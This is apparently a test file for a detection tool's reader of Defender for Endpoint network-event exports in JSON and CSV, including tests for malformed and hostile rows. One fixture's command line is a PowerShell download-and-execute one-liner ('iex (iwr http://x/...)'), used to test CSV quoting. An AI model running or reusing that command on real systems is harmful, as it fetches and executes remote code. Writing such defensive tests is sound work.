import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ConnectionEvent } from '../../src/contracts/connection-event.js';
import { readTelemetryFile } from '../../src/backtest/input/read-file.js';
import type { EntryStats } from '../../src/backtest/input/read-entry.js';
import { SysmonProcesses } from '../../src/backtest/readers/sysmon-processes.js';

const dir = mkdtempSync(join(tmpdir(), 'cw-mde-'));

async function read(name: string, text: string | Buffer): Promise<{ events: ConnectionEvent[]; stats: EntryStats[] }> {
  const path = join(dir, name);
  writeFileSync(path, text);
  const stats: EntryStats[] = [];
  const events: ConnectionEvent[] = [];
  for await (const event of readTelemetryFile(path, { processes: new SysmonProcesses() }, stats)) events.push(event);
  return { events, stats };
}

/** A DeviceNetworkEvents row as Graph's runHuntingQuery returns it: numbers as numbers, empty strings for none. */
const row = {
  Timestamp: '2026-03-10T09:03:12.4471234Z',
  DeviceId: '3f1c0e7d2a9b4c55a1e0c2b7d9f31a6e8b4c2d10',
  DeviceName: 'fin-ws-042.corp.example',
  ActionType: 'ConnectionSuccess',
  RemoteIP: '192.0.2.44',
  RemotePort: 8443,
  RemoteUrl: '',
  LocalIP: '10.20.1.42',
  LocalPort: 51234,
  Protocol: 'TcpV4',
  LocalIPType: 'Private',
  RemoteIPType: 'Public',
  InitiatingProcessFileName: 'OneDriveStandaloneUpdate.exe',
  InitiatingProcessFolderPath: 'c:\\users\\public\\libraries\\onedrivestandaloneupdate.exe',
  InitiatingProcessCommandLine: 'OneDriveStandaloneUpdate.exe',
  InitiatingProcessSHA1: '9a3b7c7e5d4b8f2a1c6e0d9f8b7a6c5d4e3f2a1b',
  InitiatingProcessSHA256: '',
  InitiatingProcessId: 7312,
  InitiatingProcessParentFileName: 'powershell.exe',
  InitiatingProcessCreationTime: '2026-03-10T09:01:55.1234567Z',
  InitiatingProcessAccountDomain: 'corp',
  InitiatingProcessAccountName: 'bernard.klein',
  ReportId: 18231,
};

const expected: ConnectionEvent = {
  id: 'mde:3f1c0e7d2a9b4c55a1e0c2b7d9f31a6e8b4c2d10:18231:2026-03-10T09:03:12.4471234Z',
  source: 'mde',
  time: Date.parse('2026-03-10T09:03:12.447Z'),
  device: { hostname: 'fin-ws-042.corp.example', uid: '3f1c0e7d2a9b4c55a1e0c2b7d9f31a6e8b4c2d10', ip: '10.20.1.42' },
  process: {
    pid: 7312,
    name: 'OneDriveStandaloneUpdate.exe',
    path: 'c:\\users\\public\\libraries\\onedrivestandaloneupdate.exe',
    cmd_line: 'OneDriveStandaloneUpdate.exe',
    sha1: '9a3b7c7e5d4b8f2a1c6e0d9f8b7a6c5d4e3f2a1b',
    user: 'corp\\bernard.klein',
    parent_name: 'powershell.exe',
    started_at: Date.parse('2026-03-10T09:01:55.123Z'),
  },
  src_endpoint: { ip: '10.20.1.42', port: 51234 },
  dst_endpoint: { ip: '192.0.2.44', port: 8443 },
  protocol: 'tcp',
  direction: 'outbound',
  outcome: 'success',
};

const csvOf = (rows: Record<string, unknown>[], separator = ',') => {
  const columns = Object.keys(row);
  const quote = (value: unknown) => {
    const text = String(value ?? '');
    return /["\r\n,;]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
  };
  return [columns.join(separator), ...rows.map((r) => columns.map((column) => quote(r[column])).join(separator))].join('\r\n');
};

describe('Defender for Endpoint DeviceNetworkEvents exports', () => {
  it('reads the Graph runHuntingQuery body (schema and results)', async () => {
    const body = { schema: [{ name: 'Timestamp', type: 'DateTime' }], results: [row, { ...row, ActionType: 'NetworkSignatureInspected', ReportId: 18232 }] };
    const { events, stats } = await read('graph.json', JSON.stringify(body, null, 2));
    expect(events).toEqual([expected]);
    expect(stats[0]).toMatchObject({ format: 'mde-network-events (JSON document)', records: 2, events: 1, skipped: 1 });
  });

  it('reads a raw Graph response saved on one line of several megabytes', async () => {
    const rows = Array.from({ length: 5_000 }, (_, index) => ({ ...row, ReportId: index, InitiatingProcessCommandLine: 'x'.repeat(300) }));
    for (const ending of ['', '\n', '\r\n\n  \n']) {
      const { events, stats } = await read('one-line.json', `${JSON.stringify({ schema: [], results: rows })}${ending}`);
      expect(events).toHaveLength(5_000);
      expect(stats[0]?.format).toBe('mde-network-events (JSON document)');
    }
  });

  it('reads JSON lines whose first row is several megabytes long', async () => {
    const long = { ...row, ReportId: 1, InitiatingProcessCommandLine: 'x'.repeat(3_000_000) };
    const { events, stats } = await read('long-first.jsonl', `${JSON.stringify(long)}\n\n${JSON.stringify({ ...row, ReportId: 2 })}\n`);
    expect(events.map((event) => event.process?.cmd_line?.length)).toEqual([3_000_000, expected.process?.cmd_line?.length]);
    expect(stats[0]?.format).toBe('mde-network-events (JSON lines)');
  });

  it('reads the older API envelope (Schema/Results), a plain array and JSON lines alike', async () => {
    const older = await read('older.json', JSON.stringify({ Schema: [], Results: [row] }));
    const array = await read('array.json', JSON.stringify([row]));
    const lines = await read('rows.jsonl', `${JSON.stringify(row)}\n`);
    for (const { events } of [older, array, lines]) expect(events).toEqual([expected]);
  });

  it('reads the portal CSV: numbers as text, quoted command lines with commas, quotes and line breaks', async () => {
    const cmd = 'powershell.exe -c "iex (iwr http://x/a,b)"\r\n-second line';
    const { events, stats } = await read('export.csv', csvOf([{ ...row, InitiatingProcessCommandLine: cmd }, { ...row, ReportId: 18233, ActionType: 'ConnectionFailed' }]));
    expect(events[0]).toEqual({ ...expected, process: { ...expected.process, cmd_line: cmd } });
    expect(events[1]).toMatchObject({ outcome: 'failure', id: expect.stringContaining(':18233:') });
    expect(stats[0]).toMatchObject({ format: 'mde-network-events (CSV)', records: 2 });
  });

  it('reads the times of a CSV copied from the portal, as it shows them, in UTC', async () => {
    const shown = ['Mar 10, 2026 9:03:12 AM', 'Mar 10, 2026 12:03:12.447 PM', 'March 10, 2026 21:03:12', 'Mar 10, 2026 12:00:00 AM'];
    const { events } = await read('portal.csv', csvOf(shown.map((Timestamp, index) => ({ ...row, Timestamp, ReportId: index }))));
    expect(events.map((event) => new Date(event.time).toISOString())).toEqual([
      '2026-03-10T09:03:12.000Z',
      '2026-03-10T12:03:12.447Z',
      '2026-03-10T21:03:12.000Z',
      '2026-03-10T00:00:00.000Z',
    ]);
  });

  it('takes the process start time as written by the API or shown by the portal, and leaves out one in neither form', async () => {
    const { events } = await read('started.csv', csvOf([
      { ...row, InitiatingProcessCreationTime: 'Mar 10, 2026 9:01:55 AM', ReportId: 1 },
      { ...row, InitiatingProcessCreationTime: '10/03/2026 09:01:55', ReportId: 2 },
    ]));
    expect(events[0]?.process?.started_at).toBe(Date.parse('2026-03-10T09:01:55Z'));
    expect(events[1]?.process).not.toHaveProperty('started_at');
  });

  it('reads a semicolon-separated CSV with a byte order mark, as Excel saves it in some locales', async () => {
    const { events } = await read('excel.csv', `\uFEFF${csvOf([row], ';')}`);
    expect(events).toEqual([expected]);
  });

  it('maps action types to direction and outcome, and joins a folder-only path with the file name', async () => {
    const rows = [
      { ...row, ActionType: 'InboundConnectionAccepted', ReportId: 1 },
      { ...row, ActionType: 'ListeningConnectionCreated', ReportId: 2 },
      { ...row, ActionType: 'ConnectionRequest', ReportId: 3, InitiatingProcessFolderPath: 'C:\\Program Files\\Foo\\' },
      { ...row, ActionType: 'IcmpConnectionInspected', ReportId: 4, Protocol: 'Icmp', RemotePort: 0 },
      { ...row, ActionType: 'DnsConnectionInspected', ReportId: 5 },
    ];
    const { events } = await read('actions.json', JSON.stringify(rows));
    expect(events.map((event) => [event.direction, event.outcome, event.protocol])).toEqual([
      ['inbound', 'success', 'tcp'],
      ['listen', 'success', 'tcp'],
      ['outbound', 'unknown', 'tcp'],
      ['unknown', 'unknown', 'icmp'],
    ]);
    expect(events[2]?.process?.path).toBe('C:\\Program Files\\Foo\\OneDriveStandaloneUpdate.exe');
    expect(events[3]?.dst_endpoint.port).toBeUndefined();
  });

  it('takes the host of a RemoteUrl given as a URL', async () => {
    const { events } = await read('url.json', JSON.stringify([{ ...row, RemoteUrl: 'https://cdn-update.example:8443/x?y=1' }]));
    expect(events[0]?.dst_endpoint.hostname).toBe('cdn-update.example');
  });
});

describe('broken or hostile exports', () => {
  it('names the CSV line of a timestamp that is not one', async () => {
    await expect(read('bad-time.csv', csvOf([row, { ...row, Timestamp: '10/03/2026 9:03' }]))).rejects.toThrow(
      /bad-time\.csv line 3: Timestamp: not an ISO 8601 date-time nor one as the portal shows it, .* \("10\/03\/2026 9:03"\)/,
    );
  });

  it('refuses a shown time that is not one: no 13 PM, no month it does not know', async () => {
    for (const Timestamp of ['Mar 10, 2026 13:03:12 PM', 'Mrz 10, 2026 9:03:12 AM', 'Mar 32, 2026 9:03:12']) {
      await expect(read('shown.csv', csvOf([{ ...row, Timestamp }]))).rejects.toThrow(/shown\.csv line 2: Timestamp: /);
    }
  });

  it('names the row of a JSON document with a port out of range', async () => {
    await expect(read('bad-port.json', JSON.stringify({ results: [row, { ...row, RemotePort: 70000 }] }))).rejects.toThrow(
      /bad-port\.json: row 1: RemotePort: not a valid number \(70000\)/,
    );
  });

  it('names the line where a pretty-printed document stops being JSON', async () => {
    const text = JSON.stringify({ results: [row] }, null, 2).replace('"RemotePort": 8443', '"RemotePort": 8443,,');
    await expect(read('broken.json', text)).rejects.toThrow(/broken\.json line 9: not valid JSON/);
  });

  it('rejects a row without a device', async () => {
    await expect(read('nodevice.jsonl', JSON.stringify({ ...row, DeviceName: '', DeviceId: null }))).rejects.toThrow(
      /nodevice\.jsonl line 1: DeviceName: missing/,
    );
  });

  it('does not treat a prototype name as an action type', async () => {
    const { events, stats } = await read('proto.jsonl', [{ ...row, ActionType: '__proto__' }, { ...row, ActionType: 'constructor' }].map((r) => JSON.stringify(r)).join('\n'));
    expect(events).toEqual([]);
    expect(stats[0]?.skipped).toBe(2);
  });
});
